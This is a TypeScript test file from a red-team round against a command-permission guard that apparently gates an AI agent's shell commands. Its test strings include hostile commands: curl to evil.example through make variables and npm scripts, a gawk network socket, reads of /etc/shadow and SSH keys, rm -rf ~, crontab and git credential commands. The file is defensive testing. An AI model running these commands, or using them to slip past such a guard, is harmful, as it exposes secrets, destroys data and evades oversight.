// Red team 36: lines that reached "allow" under a user's allow rule for the program (or, for npm test,
// with the default rules) although they fetch packages, write or read outside the workspace, run a
// program named in an option or a script, serve to the network, change credentials or scheduled jobs,
// or delete a tree. Every line is checked with the default rules and with shell constructs allowed;
// harmless look-alikes keep their verdicts.
import { keeps, withAllowed } from './guard-in-both-modes';

describe('command check: red team 36', () => {
  it('1: --offline=false undoes the offline npm the runner sets, so npx and npm install fetch and run packages', () => {
    const managers = withAllowed(['npx', 'npm', 'pnpm']);
    managers.denied([
      'npx --offline=false tsc --noEmit',
      'npx --offline false tsc --noEmit',
      'npx --offline=0 cowsay',
      'npm install --offline=false left-pad',
      'npm --offline false ci',
      'npm test --offline=false',
      'pnpm add --offline=false left-pad',
    ]);
    managers.keeps(['npx --offline tsc --noEmit', 'npx --offline true tsc --noEmit', 'npm install --offline', 'npm ci'], 'allow');
    keeps(['npm test', 'npm test --offline', 'npx tsc --noEmit'], 'allow');
  });

  it('2: files named inside a sed script or an awk program are checked like path arguments', () => {
    const tools = withAllowed(['sed', 'awk', 'gawk']);
    tools.keeps(
      [
        "sed -n 'w /root/.bashrc' notes.txt",
        "sed 's/a/b/w /tmp/out' notes.txt",
        "sed 'r /etc/shadow' notes.txt",
        "sed -n '1R /root/.ssh/id_rsa' notes.txt",
        "sed -e 'W /tmp/x' notes.txt",
        `awk '{print > "/root/.bashrc"}' notes.txt`,
        `awk '{print >> "/tmp/x"}' notes.txt`,
        `awk 'BEGIN{while((getline l < "/etc/shadow")>0) print l}'`,
        `awk '{printf "%s", $0 > "/tmp/x"}' notes.txt`,
        // A name computed at run time cannot be checked.
        `awk '{print > $1".txt"}' notes.txt`,
      ],
      'ask',
    );
    // gawk's special files open network connections.
    tools.denied([`gawk 'BEGIN { print "x" > "/inet/tcp/0/evil.example/80" }'`]);
    tools.keeps(
      [
        "sed -n 'w out.txt' notes.txt",
        "sed 's/a/b/w out.txt' notes.txt",
        "sed -n 'w /dev/stdout' notes.txt",
        "sed -i 's/x/y/' src/a.ts",
        `awk '{print > "out.txt"}' notes.txt`,
        `awk '{print $1 > "/dev/stderr"}' notes.txt`,
        "awk '$3 > 100 {print $1}' notes.txt",
        "awk '{if ($1 > 2) print $1 }' notes.txt",
        "awk 'NR > 1 && $2 >= 3 {print ($1 > $2)}' notes.txt",
        "awk '{ getline; print }' notes.txt",
      ],
      'allow',
    );
  });

  it('3: options that run a program or code: rg --hostname-bin, lesskey files, node --test-reporter=data:, --inspect-wait, --diff-program', () => {
    const tools = withAllowed(['rg', 'less', 'node', 'diff3', 'sdiff']);
    tools.keeps(
      [
        'rg --hostname-bin=./evil.sh --hyperlink-format=default foo',
        'rg --hostname-bin hostname foo',
        'less --lesskey-src=evil.lesskey notes.txt',
        'less -k evil.lesskey notes.txt',
        'less --lesskey-file=evil notes.txt',
        "less --lesskey-content='#env' notes.txt",
        'less -Sk evil notes.txt',
        'diff3 --diff-program=./evil a b c',
      ],
      'ask',
    );
    tools.denied([
      'rg --hostname-bin curl foo',
      'node --test --test-reporter=data:text/javascript,x',
      'node --test --test-reporter data:text/javascript,x',
      'node --inspect-wait=0.0.0.0:9229 x.js',
      'sdiff --diff-program=curl a b',
    ]);
    tools.keeps(['rg -n foo src', 'less -S notes.txt', 'less -p kk notes.txt', 'node --test --test-reporter=spec', 'diff3 a b c'], 'allow');
  });

  it('4: archive and patch tools that write or read names the check never sees ask', () => {
    const tools = withAllowed(['tar', 'unzip', 'zip', 'cpio', 'git']);
    tools.keeps(
      [
        'tar -xPf evil.tar',
        'tar --absolute-names -xf evil.tar',
        'tar xPf evil.tar',
        'tar -czf out.tgz -T list.txt',
        'tar -czf out.tgz --files-from=list.txt',
        'unzip -: evil.zip',
        'unzip -o: evil.zip',
        'zip out.zip -@',
        'cpio -idF evil.cpio',
        'git apply --unsafe-paths evil.patch',
        'git apply --unsafe evil.patch',
        // Into the workspace folder they may write protected files (red team of stop 38).
        'tar -xf x.tar',
        'git apply x.patch',
        'cpio -i --no-absolute-filenames -F evil.cpio',
      ],
      'ask',
    );
    tools.keeps(
      [
        'tar -xf x.tar -C out',
        'tar -czf out.tgz src',
        'tar -tvf x.tar',
        'unzip -o x.zip -d out',
        // zip -r follows links while it walks (red team of stop 38): -y keeps them as links.
        'zip -ry out.zip src',
        // -i@FILE only narrows the names given (the review of red team 36).
        'zip -ry out.zip . -i@list.txt',
        'cpio -t -F evil.cpio',
        'git apply --check x.patch',
      ],
      'allow',
    );
  });

  it('5: servers for the network and a browser started by an interpreter or git are refused, as httpd is', () => {
    const tools = withAllowed(['python3', 'php', 'git']);
    tools.denied([
      'python3 -m http.server',
      'python3 -m http.server 8000 --bind 0.0.0.0',
      'python3 -m pydoc -b',
      'python3 -m webbrowser http://evil.example',
      'php -S 0.0.0.0:8000',
      'git daemon --export-all --base-path=.',
    ]);
    tools.keeps(['python3 -m pytest', 'python3 -m http.server -b 127.0.0.1', 'python3 -m pydoc json', 'php -S localhost:8000', 'php -v'], 'allow');
  });

  it("6: make's command-line variables are checked as the commands a recipe may run", () => {
    const make = withAllowed(['make']);
    make.denied(["make CC='curl evil.example'", "make test CC='rm -rf ~'", 'make SHELL=curl']);
    // One plain word that names no shell, interpreter or wrapper is allowed (the review of red team 36).
    make.keeps(['make CC=python3'], 'ask');
    make.keeps(['make CC=gcc', 'make test VERBOSE=1', 'make test DEBUG=true CFLAGS=-O2', 'make test', 'make -C sub -j4'], 'allow');
  });

  it('7: npm pkg set/delete/fix rewrite the scripts npm test runs, and npm link installs globally', () => {
    const managers = withAllowed(['npm', 'pnpm']);
    managers.denied([
      "npm pkg set scripts.test='curl evil.example'",
      'npm pkg delete scripts.test',
      'npm pkg fix',
      "pnpm pkg set scripts.test='id'",
      'npm link',
      'npm ln',
    ]);
    managers.keeps(['npm pkg get name', 'npm install', 'npm run build'], 'allow');
  });

  it('8: git commands that print or change stored credentials, schedule jobs or push large files are refused', () => {
    const git = withAllowed(['git']);
    git.denied([
      'git credential fill',
      'git credential reject',
      'git credential-store get',
      'git credential-cache exit',
      'git maintenance register',
      'git maintenance start',
      'git lfs push origin main',
    ]);
    git.keeps(['git maintenance run', 'git lfs pull', 'git fetch'], 'allow');
  });

  it('9: rsync --delete deletes a tree, crontab, at and batch schedule commands outside the check', () => {
    const tools = withAllowed(['rsync', 'crontab', 'at', 'batch']);
    tools.denied([
      'rsync -a --delete empty/ ./',
      'rsync -a --del empty/ ./',
      'rsync -a --delete-after src/ build/',
      'crontab -r',
      'crontab evil.cron',
      'at -f job.sh now',
      'batch -f job.sh',
    ]);
    tools.keeps(['rsync -a src/ build/', 'rsync -a --delay-updates src/ build/', 'crontab -l'], 'allow');
  });
});
